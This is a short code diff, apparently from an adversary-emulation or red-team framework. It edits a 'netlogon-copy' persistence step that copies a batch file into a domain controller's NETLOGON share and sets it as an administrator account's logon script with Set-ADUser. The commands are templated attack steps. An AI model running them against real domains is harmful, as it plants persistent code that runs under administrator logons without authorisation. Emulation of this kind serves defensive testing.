@@ -44,12 +44,12 @@ export const persistence = [
       "netlogon-copy",
       [
         {
-          cmd: "cmd.exe /c copy {{tools}}\\{{name}}.bat \\\\{{dcfqdn}}\\NETLOGON\\{{name}}.bat",
+          ps: "Copy-Item {{tools}}\\{{name}}.bat \\\\{{dcfqdn}}\\NETLOGON\\{{name}}.bat",
           net: [["@dc", 445]],
         },
-        { ps: "Set-ADUser -Identity {{user}} -ScriptPath '{{name}}.bat'", by: "sh" },
+        { ps: "Set-ADUser -Identity {{user}} -ScriptPath '{{name}}.bat'" },
       ],
-      { user: "@admin" },
+      { user: "@admin", shell: "ps" },
     ),
   ]),
   t(
